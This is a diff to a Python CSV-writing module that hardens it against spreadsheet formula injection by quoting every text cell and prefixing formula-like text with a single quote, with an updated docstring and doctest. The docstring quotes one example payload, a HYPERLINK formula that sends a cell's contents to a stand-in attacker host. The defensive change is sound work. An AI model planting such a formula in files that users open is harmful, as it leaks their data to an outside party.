@@ -5,17 +5,17 @@ spreadsheets skip before looking for those) is read by Excel, LibreOffice and Go
 a formula: a photo named ``=HYPERLINK("https://attacker.invalid/?x="&A1,"open").jpg`` would
 become a live link in the measurements a user opens. As OWASP recommends ("CSV Injection"),
 such a *text* cell is written with a single quote in front, which the spreadsheet shows as
-text (the csv module quotes any cell that holds a comma, quote or line break). Numbers are
-written as numbers: ``-3.5`` stays a negative number (a number is not text that could be a
-formula).
+text, and every text cell is quoted (so a comma, quote, tab or lone carriage return inside a
+name cannot shift or break the row). Numbers are written as numbers, unquoted: ``-3.5`` stays a
+negative number (a number is not text that could be a formula).
 
 Every CSV the dashboard and the CLI write goes through :func:`csv_text` (measurements:
 :func:`face3d_core.measure.write_csv`).
 
 Example:
     >>> print(csv_text([{"image": "=1+1.jpg", "value_mm": -3.5}], ["image", "value_mm"]), end="")
-    image,value_mm
-    '=1+1.jpg,-3.5
+    "image","value_mm"
+    "'=1+1.jpg",-3.5
 """
 
 from __future__ import annotations
@@ -61,10 +61,10 @@ def csv_text(rows: Iterable[Mapping[str, object]], columns: Sequence[str]) -> st
         columns: The column names, in order.
 
     Returns:
-        The file's text, one line per row (LF line ends); text cells that need it are quoted.
+        The file's text, one line per row (LF line ends), text cells quoted.
     """
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\n")
+    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
     writer.writerow([safe_cell(name) for name in columns])
     for row in rows:
         writer.writerow([safe_cell(row.get(name)) for name in columns])
